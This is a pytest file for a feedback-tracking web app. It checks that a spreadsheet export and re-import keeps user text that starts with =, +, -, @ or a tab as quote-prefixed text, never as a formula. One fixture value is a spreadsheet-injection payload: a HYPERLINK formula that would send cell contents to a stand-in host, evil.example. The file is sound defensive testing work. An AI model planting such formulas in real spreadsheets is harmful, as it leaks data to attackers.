"""The offline round trip keeps text exactly: risky text is a quote-prefixed string cell, never a formula."""

from __future__ import annotations

import io
import re

import openpyxl
import pytest
from sqlalchemy import func, select

from reviewtracker.extensions import db
from reviewtracker.models import Feedback, FeedbackImport
from tests import factories
from tests.feedback_import.conftest import FIELDS, download, page_text, upload

# Text a user may well type that a spreadsheet would otherwise run as a formula (or strip and then run).
RISKY_COMMENTS = {
    "equals": "=SUM(A1:A3) should read as words",
    "plus": "+1 to the proposal in 2.3",
    "minus": "-1+1 is how the table reads",
    "dash": "- first bullet\n- second bullet",
    "at": "@IOM please clarify",
    "tab": "\t=1+1 after a tab",
    "hyperlink": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
}


@pytest.fixture
def risky_items(world):
    """Drafts of country A whose comment, proposed change and reference start with a formula trigger."""
    author = world.users["contributor"]
    items = {
        name: factories.create_feedback(
            author, world.round, state="draft", comment=text, proposed_change="+ " + name, reference="-p. 4"
        )
        for name, text in RISKY_COMMENTS.items()
    }
    db.session.commit()
    return items


def _stored(items) -> dict[int, tuple]:
    db.session.expire_all()
    return {
        item.id: (found.comment, found.proposed_change, found.reference, found.lock_version)
        for item in items.values()
        for found in [db.session.get(Feedback, item.id)]
    }


def test_exported_risky_text_is_quote_prefixed_text_with_no_apostrophe(client, world, login_as, risky_items):
    login_as(world.users["contributor"])
    sheet = openpyxl.load_workbook(io.BytesIO(download(client, world.round.id, ours=True)), data_only=False).active
    by_id = {cells[0].value: cells for cells in sheet.iter_rows(min_row=2) if cells[0].value}
    for name, item in risky_items.items():
        cells = by_id[item.display_id]
        comment, proposed, reference = (cells[FIELDS.index(key)] for key in ("Comment", "Proposed change", "Reference"))
        for cell in (comment, proposed, reference):
            assert cell.data_type == "s", (name, cell.coordinate)  # a string, never a formula
            assert cell.quotePrefix, (name, cell.coordinate)  # still text when someone edits the cell
            assert not cell.value.startswith("'"), (name, cell.value)
        assert comment.value == item.comment
        assert proposed.value == item.proposed_change and reference.value == item.reference
    # No cell of any sheet of the file is a formula.
    workbook = openpyxl.load_workbook(io.BytesIO(download(client, world.round.id, ours=True)), data_only=False)
    assert not [cell.coordinate for ws in workbook for row in ws.iter_rows() for cell in row if cell.data_type == "f"]


def test_an_untouched_round_trip_file_imports_with_no_change(client, world, login_as, risky_items):
    login_as(world.users["contributor"])
    before = _stored(risky_items)
    data = download(client, world.round.id, ours=True)
    assert upload(client, world.round.id, data).status_code == 302
    preview = page_text(client.get("/feedback/imports/preview"))
    assert 'id="count-updated">0<' in preview and 'id="count-new">0<' in preview
    assert 'id="count-errors">0<' in preview
    rows = [r for r in openpyxl.load_workbook(io.BytesIO(data)).active.iter_rows(min_row=2, values_only=True) if r[0]]
    assert len(rows) > len(risky_items)  # the risky rows and the world's own items
    assert re.search(r'id="count-unchanged">(\d+)<', preview).group(1) == str(len(rows))  # every row unchanged
    client.post("/feedback/imports/confirm", data={"mode": "draft"})
    assert _stored(risky_items) == before  # the text, byte for byte, and no new version of any item
    assert db.session.scalar(select(func.count(FeedbackImport.id))) == 0


def test_risky_text_edited_offline_is_stored_without_an_apostrophe(client, world, login_as, risky_items):
    login_as(world.users["contributor"])
    workbook = openpyxl.load_workbook(io.BytesIO(download(client, world.round.id, ours=True)))
    sheet = workbook.active
    target = risky_items["plus"]
    for cells in sheet.iter_rows(min_row=2):
        if cells[0].value == target.display_id:
            cells[FIELDS.index("Comment")].value = target.comment + " (edited)"
    output = io.BytesIO()
    workbook.save(output)
    upload(client, world.round.id, output.getvalue())
    assert 'id="count-updated">1<' in page_text(client.get("/feedback/imports/preview"))
    client.post("/feedback/imports/confirm", data={"mode": "draft"})
    db.session.expire_all()
    assert db.session.get(Feedback, target.id).comment == "+1 to the proposal in 2.3 (edited)"
    assert db.session.get(Feedback, risky_items["equals"].id).comment == RISKY_COMMENTS["equals"]
